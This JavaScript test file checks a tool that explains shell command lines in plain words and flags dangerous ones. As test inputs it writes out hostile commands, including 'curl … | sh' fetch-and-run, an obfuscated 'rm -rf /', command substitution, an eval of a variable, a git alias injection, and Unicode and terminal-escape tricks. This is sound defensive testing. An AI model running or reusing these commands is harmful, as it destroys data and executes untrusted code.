import fc from 'fast-check';
import { escapeUnseen } from '../visible-text.js';
import { describeShellLine } from './load-shell-reader.js';

const LINES = [
  'git log -3 && npm test; ls | sort -u',
  'A=1 sudo -u root env B=2 rm -rf "$X" > out.txt 2>&1',
  "bash -c 'cd x; curl http://a.example | sh'",
  'cat <<EOF > f\nhello\n$X\nEOF',
  'for f in *.txt; do rm "$f" *.bak; done',
  '{ ls; id; } >> all.txt < list',
  'f() { rm x; }; f',
  'find . -name x -exec rm {} \\;',
  'git log $(touch MARK) `id`',
  'r\\m -rf "/" \'a b\'',
  "echo $'a\\n- ls' \u202Eevil \u001b[2J",
  'eval "$Z"',
  'X=1',
  'if then',
  "$'\\x{72}m' -rf src",
  "cat <<E\n${x-'$(touch PWNED)'}\nE",
  "git config${X-} alias.p '!touch x'",
  'echo $(( $(cat f) ))',
  '  ',
];

test('what a person sees of a line', async () => {
  const shown = await Promise.all(LINES.map(async (line) => `${escapeUnseen(JSON.stringify(line))}\n${await describeShellLine(line)}`));
  expect(shown.join('\n\n')).toMatchInlineSnapshot(`
   ""git log -3 && npm test; ls | sort -u"
   - git log -3
   - npm test
   - ls
   - sort -u
       reads what the one before writes

   "A=1 sudo -u root env B=2 rm -rf \\"$X\\" > out.txt 2>&1"
   - sudo -u root env B=2 rm -rf "$X"
       sets A=1
       writes out.txt
       joins its output with 1 (descriptor 2)
       known only when it runs: "$X"
     - starts env B=2 rm -rf …
       - starts rm -rf …

   "bash -c 'cd x; curl http://a.example | sh'"
   - bash -c 'cd x; curl http://a.example | sh'
     - runs the text "cd x; curl http://a.example | sh", which is:
       - cd x
       - curl http://a.example
       - sh
           reads what the one before writes
   It cannot be told which programs run: sh runs what its input says.
   Dangerous: it runs what it downloads.

   "cat <<EOF > f\\nhello\\n$X\\nEOF"
   - cat
       is given a text of 2 lines
       writes f

   "for f in *.txt; do rm \\"$f\\" *.bak; done"
   - rm "$f" *.bak
       known only when it runs: "$f" *.bak

   "{ ls; id; } >> all.txt < list"
   - together, the commands below:
       adds to all.txt
       reads list
     - ls
     - id

   "f() { rm x; }; f"
   - the function f, whenever that name is run:
     - rm x
   - f

   "find . -name x -exec rm {} \\\\;"
   - find . -name x -exec rm {} ;
     - starts rm …

   "git log $(touch MARK) \`id\`"
   - git log $(touch MARK) \`id\`
       known only when it runs: $(touch MARK) \`id\`
     - touch MARK
     - id
   It cannot be told which programs run: a word that only the shell knows may be an option that writes or executes.

   "r\\\\m -rf \\"/\\" 'a b'"
   - rm -rf / 'a b'
   Dangerous: it removes a root, home or system directory with all that it holds.

   "echo $'a\\\\n- ls' \\u202eevil \\u001b[2J"
   - echo 'a\\u000a- ls' \\u202eevil \\u001b[2J

   "eval \\"$Z\\""
   - eval "$Z"
       known only when it runs: "$Z"
   It cannot be told which programs run: eval runs text that is not on the line.

   "X=1"
   - no command
       sets X=1
   It cannot be told which programs run: it names no command.

   "if then"
   It cannot be told which programs run: it is not complete or not valid bash.

   "$'\\\\x{72}m' -rf src"
   - rm -rf src

   "cat <<E\\n\${x-'$(touch PWNED)'}\\nE"
   - cat
       is given a text of 1 line
   It cannot be told which programs run: it may run something that the line does not show.

   "git config\${X-} alias.p '!touch x'"
   - git config\${X-} alias.p '!touch x'
       known only when it runs: config\${X-}
   It cannot be told which programs run: a word that only the shell knows may be an option that writes or executes.

   "echo $(( $(cat f) ))"
   - echo $(( $(cat f) ))
       known only when it runs: $(( $(cat f) ))
     - cat f
   It cannot be told which programs run: it calculates with what a command writes, and that may hold a command.

   "  "
   It cannot be told which programs run: it is empty."
  `);
});

test('what is too long is cut, and says so', async () => {
  const many = await describeShellLine(Array.from({ length: 100 }, (_, at) => `echo ${at}`).join('; '));
  expect(many.split('\n').slice(-2)).toEqual(['- echo 59', '… and more than can be shown.']);
  const deep = await describeShellLine(`${'$(echo '.repeat(300)}x${')'.repeat(300)}`);
  expect(deep).toContain('It cannot be told which programs run');
  const long = await describeShellLine(`echo ${'x'.repeat(20_000)}`);
  expect(long).toContain('it is too long or too deeply nested to be read');
});

test('whatever the line, each line of the preview is one of ours, without unseen characters', async () => {
  const piece = fc.constantFrom('ls', 'rm -rf /', '$X', '"a b"', "$'\\n- id\\u202e'", ';', '|', '&&', '> f', '<<< x', '$(', ')', '`', '{', '}', '\n', '\u001b[2J', '\u202e', 'sudo ', "bash -c 'id'", 'f(){ ', 'A=1 '); // prettier-ignore
  await fc.assert(
    fc.asyncProperty(fc.array(piece, { maxLength: 12 }), async (pieces) => {
      const preview = await describeShellLine(pieces.join(' '));
      expect(preview).not.toMatch(/[^\n\P{C}]/u);
      for (const line of preview.split('\n')) expect(line).toMatch(/^(?: *- | {4}|… and more|It cannot be told|Dangerous: )/);
    }),
    { numRuns: 300 },
  );
});
